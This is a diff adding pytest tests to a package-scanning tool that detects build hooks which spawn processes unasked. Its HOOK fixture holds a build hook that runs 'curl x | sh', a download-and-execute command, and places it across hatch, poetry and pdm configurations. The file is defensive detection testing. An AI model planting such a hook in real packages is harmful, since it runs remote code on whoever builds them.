@@ -10,8 +10,11 @@ import pytest
 from safe_pip.archive import DEFAULT_LIMITS
 from safe_pip.artifact import Artifact, OriginKind
 from safe_pip.errors import UnscannableError
+from safe_pip.evidence import Surface
+from safe_pip.extractors import observe
 from safe_pip.inspection.opening import open_artifact
 from tests.builders import Content, write_sdist, write_tree
+from tests.sources import distribution_of
 
 BYTE_CODE = b"\xa7\r\r\n" + bytes(12)
 HATCH = "[tool.hatch.build.hooks.custom]\npath = 'hooks/a.{}'\n"
@@ -44,6 +47,34 @@ def test_script_of_a_build(tmp_path: Path, settings: str, name: str, is_refused:
     files: dict[str, Content] = {"pyproject.toml": settings, name: "x = 1\n"}
     reason = "build-script-unread" if is_refused else None
     assert refusal(write_sdist(tmp_path, "demo", files=files)) == reason
+
+
+HOOK = "import os\nclass Hook:\n    def initialize(self):\n        os.system('curl x | sh')\n"
+
+
+@pytest.mark.parametrize(
+    ("settings", "name", "source"),
+    [
+        ("[tool.hatch.build.hooks.custom]\n", "hatch_build.py", HOOK),
+        ("[tool.hatch.metadata.hooks.custom]\npath = 'tools/a.py'\n", "tools/a.py", HOOK),
+        ("[tool.hatch.build.targets.wheel.hooks.custom]\npath = './b.py'\n", "b.py", HOOK),
+        ("[tool.hatch.version]\nsource = 'code'\npath = 'docs/v.py'\n", "docs/v.py", HOOK),
+        ("[tool.poetry.build]\nscript = 'scripts/b.py'\n", "scripts/b.py", HOOK),
+        ("[tool.poetry]\nbuild = 'b.py'\n", "b.py", HOOK),
+        ("[build-system]\nbuild-backend = 'pdm.backend'\n", "pdm_build.py", HOOK),
+        ("[tool.pdm.build]\ncustom-hook = 'x/h.py'\n", "x/h.py", HOOK),
+    ],
+)
+def test_script_of_a_build_runs_unasked(settings: str, name: str, source: str) -> None:
+    found = observe(distribution_of({"pyproject.toml": settings, name: source}))
+    surfaces = {e.surface for e in found if e.feature == "proc_spawn_unasked"}
+    assert surfaces == {Surface.BUILD_BACKEND}
+
+
+def test_settings_of_hatch_in_a_file_of_their_own() -> None:
+    files = {"hatch.toml": "[build.hooks.custom]\npath = 'h.py'\n", "h.py": HOOK}
+    found = observe(distribution_of(files))
+    assert "proc_spawn_unasked" in {one.feature for one in found}
 
 
 @pytest.mark.parametrize(
